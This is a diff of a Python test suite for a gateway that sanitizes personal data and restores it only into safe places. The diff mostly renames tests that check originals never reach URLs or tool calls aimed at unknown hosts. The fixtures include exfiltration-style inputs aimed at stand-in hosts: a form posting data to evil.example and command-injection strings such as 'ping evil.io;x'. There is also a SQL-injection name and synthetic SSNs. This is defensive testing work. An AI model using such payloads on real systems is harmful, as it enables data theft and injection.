@@ -1,4 +1,4 @@
-"""H6 and H7: an answer carries no originals to hosts that the prompt did not have; the way back is linear in memory and work."""
+"""H6, H7: originals are not restored in URLs to unknown hosts; restoring takes linear memory and time."""
 
 import json
 import tracemalloc
@@ -11,7 +11,7 @@ from pipeline import Key, Policy, Sanitizer
 from pipeline.gateway.answer_stream import AnswerStream
 from pipeline.gateway.answers import RestoreContext, restore_body
 from pipeline.gateway.protocol.events import EventReader
-from pipeline.gateway.protocol.field_kinds import Protocol
+from pipeline.gateway.protocol.protocols import Protocol
 from pipeline.policy.model import Action
 from pipeline.restore.inner_json import JsonRestorer
 from pipeline.restore.restore_map import RestoreMap
@@ -93,7 +93,7 @@ def leaked(text: str) -> list[str]:
         "<form action=//evil.example><input name=q value='{}'>",
     ],
 )
-def test_a_link_to_a_host_that_the_prompt_did_not_have_gets_no_originals(link: str) -> None:
+def test_url_to_a_host_outside_the_prompt_gets_no_originals(link: str) -> None:
     text = link.replace("{}", PAYLOAD)
 
     assert leaked(TABLE.restore(text)) == []
@@ -124,7 +124,7 @@ def test_a_link_to_a_host_that_the_prompt_did_not_have_gets_no_originals(link: s
         ("Java, JavaScript: Mark Jones", "Java, JavaScript: Siobhan Quillan"),
     ],
 )
-def test_what_is_no_link_or_leads_where_the_prompt_did_comes_back(answer: str, restored: str) -> None:
+def test_originals_are_restored_outside_of_urls_and_for_known_hosts(answer: str, restored: str) -> None:
     assert TABLE.restore(answer) == restored
 
 
@@ -141,7 +141,7 @@ def test_what_is_no_link_or_leads_where_the_prompt_did_comes_back(answer: str, r
         "data:text/x,Jones mailto:a@b.co,m.jones@birchcedar.example Jones",
     ],
 )
-def test_however_a_link_is_cut_it_becomes_the_same(answer: str, borders: int) -> None:
+def test_restored_url_does_not_depend_on_chunks(answer: str, borders: int) -> None:
     expected = TABLE.restore(answer)
     for cuts in combinations(range(len(answer) + 1), borders):
         assert "".join(restored_in_pieces(Restorer(TABLE), answer, cuts)) == expected, cuts
@@ -164,7 +164,7 @@ OUTWARD = [
 
 @pytest.mark.parametrize("protocol", SHAPES)
 @pytest.mark.parametrize("arguments", OUTWARD)
-def test_a_call_that_leads_out_gets_no_originals_in_any_argument(protocol: Protocol, arguments: dict[str, Any]) -> None:
+def test_tool_call_to_an_unknown_host_gets_no_originals(protocol: Protocol, arguments: dict[str, Any]) -> None:
     written = json.dumps(arguments)
 
     assert leaked(streamed(protocol, TABLE, [*written])) == []
@@ -180,7 +180,7 @@ def test_a_call_that_leads_out_gets_no_originals_in_any_argument(protocol: Proto
         "x@[203.0.113.9]", '"x y"@evil.example', "x%40evil.example", "ping evil.io;x", "x|evil.org",
     ],
 )  # fmt: skip
-def test_a_call_leads_out_however_a_host_is_written(way: str) -> None:
+def test_unknown_host_in_a_tool_call_is_detected_in_any_notation(way: str) -> None:
     assert leaked(whole(Protocol.CHAT, TABLE, {"to": way, "body": "Mark Jones 976-07-3966"})) == []
 
 
@@ -189,12 +189,12 @@ def test_a_call_leads_out_however_a_host_is_written(way: str) -> None:
     ["at 12:30:45", "std::vector", "a::b", "::1", "/srv/app/main.py", "curl http://localhost:8000/x", "@app.route('/x')",
      "f(self.x, self.y)", "3.14", "1.2.3", "host: main", "see a.py, b.rs", "aa:bb:cc:dd:ee:ff"],
 )  # fmt: skip
-def test_a_call_with_code_and_paths_gets_its_originals(other: str) -> None:
+def test_tool_call_with_code_and_paths_gets_originals(other: str) -> None:
     assert "536-22-8417" in whole(Protocol.CHAT, TABLE, {"to": other, "body": "Mark Jones 976-07-3966"})
 
 
 @pytest.mark.parametrize("protocol", SHAPES)
-def test_a_call_that_leads_nowhere_else_gets_its_originals(protocol: Protocol) -> None:
+def test_tool_call_without_unknown_hosts_gets_originals(protocol: Protocol) -> None:
     arguments = {"to": "m.jones@birchcedar.example", "ssn": 976073966, "u": "https://hexmoor.example/x"}
     for answer in (streamed(protocol, TABLE, [*json.dumps(arguments)]), whole(protocol, TABLE, arguments)):
         assert "s.quillan@tessaly.com" in answer
@@ -204,9 +204,7 @@ def test_a_call_that_leads_nowhere_else_gets_its_originals(protocol: Protocol) -
 
 @pytest.mark.parametrize("protocol", SHAPES)
 @pytest.mark.parametrize(("tools", "comes_back"), [(["send"], True), (["other"], False), ([], False)])
-def test_a_policy_names_the_tools_whose_calls_get_originals(
-    protocol: Protocol, tools: list[str], comes_back: bool
-) -> None:
+def test_policy_lists_tools_that_get_originals(protocol: Protocol, tools: list[str], comes_back: bool) -> None:
     from pipeline.policy.model import Restore
 
     restore_map = RestoreMap.of([sanitized(*REPLACED)], Restore(tools=tuple(tools)))
@@ -218,7 +216,7 @@ def test_a_policy_names_the_tools_whose_calls_get_originals(
 @pytest.mark.parametrize(
     ("links", "known", "foreign"), [("never", False, False), ("known", True, False), ("any", True, True)]
 )
-def test_a_policy_says_into_which_links_originals_are_put(links: Any, known: bool, foreign: bool) -> None:
+def test_policy_selects_urls_in_which_originals_are_restored(links: Any, known: bool, foreign: bool) -> None:
     from pipeline.policy.model import Restore
 
     restore_map = RestoreMap.of([sanitized(*REPLACED)], Restore(links=links))
@@ -229,7 +227,7 @@ def test_a_policy_says_into_which_links_originals_are_put(links: Any, known: boo
 
 
 def streamed(protocol: Protocol, restore_map: RestoreMap, pieces: list[str]) -> str:
-    """Return the arguments of the call of `send` that a client puts together."""
+    """Return the arguments of the `send` call as a client assembles them."""
     lines = "".join(f"data: {json.dumps(data)}\n\n" for _, data in SHAPES[protocol](["Hi"], pieces))
     answer, reader = AnswerStream(RestoreContext(protocol, restore_map)), EventReader()
     out = [json.loads(one.data) for event in reader.feed(lines.encode()) for one in answer.feed(event)]
@@ -258,7 +256,7 @@ def whole(protocol: Protocol, restore_map: RestoreMap, arguments: dict[str, Any]
     )
 
 
-def test_a_name_with_odd_characters_comes_back_only_whole() -> None:
+def test_name_with_unusual_characters_is_restored_as_a_whole_only() -> None:
     restore_map = RestoreMap.of([sanitized(("Vincent Logan Adler", "PERSON", "Robert'; DROP TABLE t;-- Miller"))])
 
     assert restore_map.restore("vincent, Logan and Adler") == "vincent, Logan and Adler"
@@ -271,7 +269,7 @@ def test_a_name_with_odd_characters_comes_back_only_whole() -> None:
 @pytest.mark.parametrize(
     "name", ["Siobhan O'Brien", "Marco D'Angelo", "Anne-Marie Smith-Jones", "SIOBHAN O'BRIEN", "Luca Dell'Acqua"]
 )
-def test_a_surrogate_of_a_person_keeps_apostrophes_and_hyphens(without_model: Sanitizer, name: str) -> None:
+def test_surrogate_of_a_person_keeps_apostrophes_and_hyphens(without_model: Sanitizer, name: str) -> None:
     from pipeline import Span
 
     [out] = without_model.replace([name], [[Span(0, len(name), "PERSON", 1.0, "test")]])
@@ -283,7 +281,7 @@ def test_a_surrogate_of_a_person_keeps_apostrophes_and_hyphens(without_model: Sa
 
 
 @pytest.mark.parametrize("name", ["Tarnquill & Sons", "AT&T", "M&S Bank", "McDonald's", "O'Reilly Media", "L'Ostal SA"])
-def test_a_surrogate_of_an_organization_keeps_apostrophes_and_ampersands(without_model: Sanitizer, name: str) -> None:
+def test_surrogate_of_an_organization_keeps_apostrophes_and_ampersands(without_model: Sanitizer, name: str) -> None:
     from pipeline import Span
 
     [out] = without_model.replace([name], [[Span(0, len(name), "ORGANIZATION", 1.0, "test")]])
@@ -291,7 +289,7 @@ def test_a_surrogate_of_an_organization_keeps_apostrophes_and_ampersands(without
     assert [out.text.count(mark) for mark in "'&"] == [name.count(mark) for mark in "'&"], out.text
 
 
-def test_memory_of_the_way_back_is_linear_in_the_prompt() -> None:
+def test_memory_of_the_restore_map_is_linear_in_the_prompt() -> None:
     urls = [f"https://www.hexmoor.example/{place}/" + f"{place:04d}-abc/" * 400 for place in range(20)]
     restore_map = RestoreMap.of(
         [sanitized(*((url, "URL", url.replace("hexmoor.example", "kestrel.com")) for url in urls))]
@@ -308,13 +306,13 @@ def test_memory_of_the_way_back_is_linear_in_the_prompt() -> None:
     assert peak < 10 * sum(map(len, urls))
 
 
-def test_work_on_inner_json_is_linear(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_nested_json_takes_linear_time(monkeypatch: pytest.MonkeyPatch) -> None:
     from pipeline.restore import inner_json
 
     copied = 0
 
     class Counted(str):
-        """Counts the characters that are cut out of a text."""
+        """Counts the characters that are sliced from a text."""
 
         __slots__ = ()
 
@@ -341,7 +339,7 @@ def test_work_on_inner_json_is_linear(monkeypatch: pytest.MonkeyPatch) -> None:
     assert copied <= 10 * len(text)
 
 
-def test_a_policy_that_names_a_tool_says_that_it_loosens(tmp_path: Any, key: Key) -> None:
+def test_policy_that_lists_a_tool_must_loosen(tmp_path: Any, key: Key) -> None:
     from pipeline.errors import PolicyError
 
     path = tmp_path / "mine.yaml"
